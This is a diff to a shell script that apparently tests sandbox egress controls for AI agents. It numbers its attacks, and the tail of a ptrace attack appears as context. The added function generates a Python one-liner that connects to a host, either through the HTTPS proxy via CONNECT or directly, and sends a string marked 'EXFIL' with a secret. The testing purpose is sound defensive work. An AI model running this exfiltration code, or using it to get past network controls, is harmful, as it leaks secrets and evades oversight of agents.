@@ -328,3 +328,23 @@ if r==0:
     finally:
         l.ptrace(17,p,0,0)'"
 }
+
+# (attacks 55-57) The command that sends "EXFIL SECRET" to HOST:PORT the way an agent told to use
+# the egress proxy would: CONNECT through $HTTPS_PROXY when the sandbox has one (mode "proxy"),
+# straight to the host otherwise, which is what the control run must see work.
+via_proxy_cmd() { # HOST PORT SECRET
+        cat <<CMD
+python3 -c 'import os, socket, sys
+h, p, m = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
+u = os.environ.get("HTTPS_PROXY", "").split("//")[-1]
+s = socket.create_connection((u.rsplit(":", 1)[0], int(u.rsplit(":", 1)[1])) if u else (h, p), 10)
+if u:
+    s.sendall(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (h.encode(), p))
+    r = s.recv(300)
+    print(r.decode(errors="replace"))
+    if not r.startswith(b"HTTP/1.1 200"):
+        sys.exit(1)
+s.sendall(m + b"\\n")
+print(s.recv(100))' "$1" $2 "EXFIL $3"
+CMD
+}
